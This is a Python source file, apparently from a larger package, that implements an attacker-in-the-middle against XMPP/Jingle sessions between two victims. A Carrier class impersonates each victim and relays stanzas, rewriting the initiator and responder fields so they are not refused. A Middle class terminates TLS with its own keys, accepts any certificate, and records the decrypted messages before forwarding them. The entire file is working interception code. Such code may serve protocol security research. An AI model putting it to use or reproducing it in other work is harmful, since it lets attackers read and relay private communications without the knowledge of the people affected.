# SPDX-License-Identifier: GPL-2.0-or-later
"""The two halves of an attacker in the middle.

Each is logged in to the server of one victim as the other victim. A Carrier
passes bytes on unchanged; a Middle terminates TLS on both sides with keys of
its own, and passes on what it reads.
"""
import asyncio
import copy
from xml.etree import ElementTree as ET

from .client import Client
from .jingle import Refused
from .session import Session


class Carrier(Client):
    """Carries the bytes of a session, block by block, to `to` through
    `other`."""

    other = None
    to = None

    def _take_iq(self, iq):
        self.spawn(self._carry(iq, copy.deepcopy(iq.xml[0])))

    async def _carry(self, iq, node):
        # Jingle names initiator and responder, and contradictory stanzas are
        # refused.
        for name in ('initiator', 'responder'):
            if node.get(name):
                node.set(name, self.other.boundjid.full)
        try:
            await self.other.request(self.to, node)
        except Refused as error:
            self.refuse(iq, error)
        except asyncio.TimeoutError:
            pass
        else:
            iq.reply(clear=True).send()


def carry(one, one_victim, other, other_victim):
    """Joins two Carriers."""
    one.other, one.to = other, other_victim
    other.other, other.to = one, one_victim


class Middle(Session):
    """One side of a session whose content is read and passed on."""

    other_half = None

    def check_certificate(self, certificate):
        return None

    def _take_message_or_iq(self, name, node):
        text = ET.tostring(node, encoding='unicode')
        self.events.put('read', text)
        self.other_half.send_plain(text)


async def join(calling, called, victim):
    """Waits for the first victim's call to one half; the other half then calls
    the second victim. Returns both sessions, open."""
    first = await called.called()
    second = calling.session(victim, Middle)
    first.other_half, second.other_half = second, first
    await second.call()
    return first, second
